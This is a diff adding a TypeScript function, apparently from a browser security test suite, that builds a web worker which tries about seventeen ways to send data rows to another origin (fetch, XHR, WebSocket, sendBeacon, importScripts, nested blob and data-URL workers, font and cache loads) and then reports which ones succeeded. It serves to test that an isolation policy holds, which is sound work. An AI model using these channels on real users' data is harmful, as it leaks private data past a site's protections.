@@ -1,0 +1,72 @@
+/**
+ * A worker that tries everything a worker has to send the rows it is given to another origin, and then
+ * tells its own server what it tried: that is allowed, and shows that it ran and had the rows.
+ */
+export function hostileWorker(elsewhere: string, report: string): string {
+  return `
+    const elsewhere = ${JSON.stringify(elsewhere)};
+    const report = ${JSON.stringify(report)};
+    const code = (script) => URL.createObjectURL(new Blob([script], { type: 'text/javascript' }));
+    const sent = (way, rows) => elsewhere + way + '?rows=' + encodeURIComponent(rows);
+    const answered = (target, good) => new Promise((resolve, reject) => {
+      target.addEventListener(good, () => resolve('went out'));
+      target.addEventListener('error', () => reject(new Error('refused')));
+    });
+    const inOther = (address, options) => new Promise((resolve, reject) => {
+      const worker = new Worker(address, options);
+      worker.onmessage = resolve;
+      worker.onerror = () => reject(new Error('refused'));
+    });
+    const ways = {
+      fetch: (to, rows) => fetch(to, { method: 'POST', mode: 'no-cors', body: rows }),
+      keepalive: (to, rows) => fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true, body: rows }),
+      xhr: (to, rows) => {
+        const request = new XMLHttpRequest();
+        const done = answered(request, 'load');
+        request.open('POST', to);
+        request.send(rows);
+        return done;
+      },
+      'sync-xhr': (to, rows) => {
+        const request = new XMLHttpRequest();
+        request.open('POST', to, false);
+        request.send(rows);
+      },
+      websocket: (to) => answered(new WebSocket(to.replace('http', 'ws')), 'open'),
+      eventsource: (to) => answered(new EventSource(to), 'open'),
+      beacon: (to, rows) => navigator.sendBeacon(to, rows),
+      importscripts: (to) => importScripts(to),
+      import: (to) => import(to),
+      webtransport: (to) => new WebTransport(to.replace('http:', 'https:')).ready,
+      cache: async (to) => (await caches.open('x')).add(new Request(to, { mode: 'no-cors' })),
+      font: (to) => new FontFace('x', 'url(' + to + ')').load(),
+      'worker-from-blob': (to) => inOther(code(
+        'fetch(' + JSON.stringify(to) + ', { mode: "no-cors" }).finally(() => postMessage(0))')),
+      'worker-from-data': (to) => inOther('data:text/javascript,' + encodeURIComponent(
+        'fetch(' + JSON.stringify(to) + ', { mode: "no-cors" }).finally(() => postMessage(0))')),
+      'worker-from-here': (to) => inOther(import.meta.url + '?send=' + encodeURIComponent(to), { type: 'module' }),
+      'worker-from-there': (to) => inOther(to, { type: 'module' }),
+      'shared-worker': (to) => new SharedWorker(import.meta.url + '?send=' + encodeURIComponent(to), { type: 'module' }),
+    };
+    const toSend = new URL(import.meta.url).searchParams.get('send');
+    if (toSend !== null) {
+      // The same file as another worker: does its own address free it from the policy?
+      fetch(toSend, { mode: 'no-cors' }).finally(() => self.postMessage?.(0));
+    }
+    addEventListener('message', async ({ data }) => {
+      if (data.type !== 'start') return;
+      const rows = (await data.source.blob.text()).slice(0, 40);
+      const late = new Promise((resolve) => setTimeout(resolve, 2000, 'no answer'));
+      const tried = {};
+      await Promise.all(Object.entries(ways).map(async ([way, act]) => {
+        try {
+          const outcome = await Promise.race([act(sent(way, rows), rows), late]);
+          tried[way] = outcome === 'no answer' ? outcome : 'went out';
+        } catch (error) {
+          tried[way] = String(error).slice(0, 80);
+        }
+      }));
+      await fetch(report, { method: 'POST', body: JSON.stringify({ rows, tried }) });
+    });
+  `;
+}
